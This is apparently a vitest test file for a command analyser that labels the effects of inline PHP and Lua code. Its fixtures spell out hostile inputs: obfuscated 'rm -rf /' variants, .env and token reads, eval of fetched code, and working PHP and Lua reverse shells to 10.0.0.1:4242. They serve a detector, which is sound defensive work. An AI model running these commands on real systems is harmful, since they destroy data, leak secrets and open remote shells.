import { describe, expect, it } from 'vitest';
import { effectsOf, quoted } from './effects-of.ts';

const base64 = Buffer.from('rm -rf /').toString('base64');
const code64 = Buffer.from('system("rm -rf /");').toString('base64');

const php: Readonly<Record<string, readonly string[]>> = {
	'echo PHP_VERSION;': [],
	'echo 1 + 1, PHP_EOL;': [],
	'$a = [1, 2]; foreach ($a as $k => $v) { echo "$k=$v\\n"; }': [],
	'$d = json_decode(file_get_contents("package.json"), true); echo $d["version"];': ['read package.json'],
	'echo strtoupper("a") . str_repeat("b", 3);': [],
	'echo json_encode(["a" => 1]);': [],
	'echo "system(1)"; // system("rm -rf /")': [],
	'echo getenv("HOME");': [],
	'file_put_contents("out", "x");': ['write out'],
	'unlink("a");': ['delete a'],
	'system("rm -rf /");': ['delete / recursive'],
	'SYSTEM("rm -rf /");': ['delete / recursive'],
	'\\system("rm -rf /");': ['delete / recursive'],
	'echo `rm -rf /`;': ['delete / recursive'],
	'echo shell_exec("cat .env");': ['secret.read .env'],
	'$c = "rm"; passthru("$c -rf /");': ['delete / recursive'],
	'$c = "rm"; $c .= " -rf /"; system($c);': ['delete / recursive', 'opaque'],
	[`system(base64_decode("${base64}"));`]: ['delete / recursive'],
	[`eval(base64_decode("${code64}"));`]: ['delete / recursive'],
	'system(strrev("/ fr- mr"));': ['delete / recursive'],
	'proc_open(["rm", "-rf", "/"], [], $p);': ['delete / recursive'],
	'echo file_get_contents(".env");': ['secret.read .env'],
	'fopen("/etc/passwd", "w");': ['config.write /etc/passwd'],
	'echo file_get_contents("http://e.example/x");': ['network e.example'],
	'$c = curl_init("http://e.example/x"); curl_exec($c);': ['network e.example'],
	'fsockopen("e.example", 80);': ['network e.example'],
	'print_r($_ENV);': ['secret.read the environment'],
	'print_r(getenv());': ['secret.read the environment'],
	'echo $_ENV["GITHUB_TOKEN"];': ['secret.read $GITHUB_TOKEN'],
	'echo "{$_SERVER[\'X_TOKEN\']}";': ['secret.read $X_TOKEN'],
	'phpinfo();': ['secret.read the environment'],
	'include "x.php";': ['exec x.php'],
};

const phpOpaque: readonly string[] = [
	'foo();',
	'$c = "ls"; list($c) = ["rm"]; system($c);',
	'$c = "ls"; foreach (["rm"] as $c) system($c);',
	'$c = "ls"; (fn($c) => system($c))("rm");',
	'$f("ls");',
	'$f = "system"; $f("ls");',
	'("sys" . "tem")("ls");',
	'array_map("system", ["ls"]);',
	'call_user_func("system", "ls");',
	'$$x = 1;',
	'new Evil();',
	'(new ReflectionFunction("system"))->invoke("ls");',
	'system($argv[1]);',
	'eval($argv[1]);',
	'echo file_get_contents("php://filter/resource=.env");',
	'$c = "ls"; $r = &$c; $r = "rm"; system($c);',
	'echo <<<EOT\nx\nEOT;',
	'// ?> <?php foo();',
	'preg_replace_callback("/x/", "system", "x");',
	'extract($_GET);',
	'putenv("PATH=/tmp");',
];

const lua: Readonly<Record<string, readonly string[]>> = {
	'print(1 + 1)': [],
	'for i = 1, 3 do print(i) end': [],
	'local t = {3, 1, 2} table.sort(t) print(table.concat(t, ","))': [],
	'print(("abc"):upper(), #"abc", "a" .. "b")': [],
	'print(_VERSION) -- os.execute("rm -rf /")': [],
	'for l in io.lines("a.txt") do print(l) end': ['read a.txt'],
	'local f = io.open("out", "w") f:write("x") f:close()': ['write out'],
	'print(os.getenv("HOME"))': [],
	'os.remove("a")': ['delete a'],
	'os.execute("rm -rf /")': ['delete / recursive'],
	'os.execute "rm -rf /"': ['delete / recursive'],
	'os.execute([[rm -rf /]])': ['delete / recursive'],
	'local e = os.execute; e("rm " .. "-rf /")': ['delete / recursive'],
	'os.execute("\\114\\109 -rf /")': ['delete / recursive'],
	'os.execute(string.char(114,109) .. " -rf /")': ['delete / recursive'],
	'os.execute(("/ fr- mr"):reverse())': ['delete / recursive'],
	'print(io.popen("cat .env"):read("*a"))': ['secret.read .env'],
	'load("os.execute(\'rm -rf /\')")()': ['delete / recursive'],
	'print(os.getenv("GITHUB_TOKEN"))': ['secret.read $GITHUB_TOKEN'],
	'print(io.open(".env"):read("*a"))': ['secret.read .env'],
	'dofile("x.lua")': ['exec x.lua'],
};

const luaOpaque: readonly string[] = [
	'foo()',
	'_G["os"].execute("ls")',
	'_G.os.execute("ls")',
	'require("evil")',
	'os["exec" .. "ute"](arg[1])',
	'local t = {os.execute} t[1]("ls")',
	'local function f(g) g("ls") end f(os.execute)',
	'os.execute(arg[1])',
	'load(io.read())()',
	'debug.getregistry()',
	'setmetatable({}, {})',
	'print("a',
];

describe('inline PHP', () => {
	it.each(Object.entries(php))('has exactly the expected effects: %s', (code, expected) => {
		expect(effectsOf(`php -r ${quoted(code)}`)).toEqual([...expected].sort());
	});

	it.each(phpOpaque)('is opaque: %s', (code) => {
		expect(effectsOf(`php -r ${quoted(code)}`)).toContain('opaque');
	});

	it.each([
		['$s=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");', 'reverse shell'],
		['$s=fsockopen("10.0.0.1",4242);$p=proc_open("/bin/sh -i",[$s,$s,$s],$x);', 'reverse shell'],
		['eval(file_get_contents("http://e.example/x"));', 'fetched code'],
		['eval(base64_decode($argv[1]));', 'decoded code'],
	])('has a forbidden effect: %s', (code, expected) => {
		expect(effectsOf(`php -r ${quoted(code)}`)).toContain(expected);
	});

	it.each([
		["php <<'EOF'\n<?php\nsystem('rm -rf /');\nEOF", ['delete / recursive']],
		["php <<'EOF'\n<?php echo 1; ?>\nEOF", []],
		["php -d x=1 -r 'echo 1;'", ['opaque']],
	])('has the expected effects in a whole command: %s', (command, expected) => {
		expect(effectsOf(command)).toEqual([...expected].sort());
	});
});

describe('inline Lua', () => {
	it.each(Object.entries(lua))('has exactly the expected effects: %s', (code, expected) => {
		expect(effectsOf(`lua -e ${quoted(code)}`)).toEqual([...expected].sort());
	});

	it.each(luaOpaque)('is opaque: %s', (code) => {
		expect(effectsOf(`lua -e ${quoted(code)}`)).toContain('opaque');
	});

	it('is recognized as a reverse shell', () => {
		const code =
			'local s=require("socket");local t=assert(s.tcp());t:connect("10.0.0.1",4242);while true do local r,x=t:receive();local f=assert(io.popen(r,"r"));t:send(f:read("*a"));end';
		expect(effectsOf(`lua -e ${quoted(code)}`)).toContain('reverse shell');
	});
});
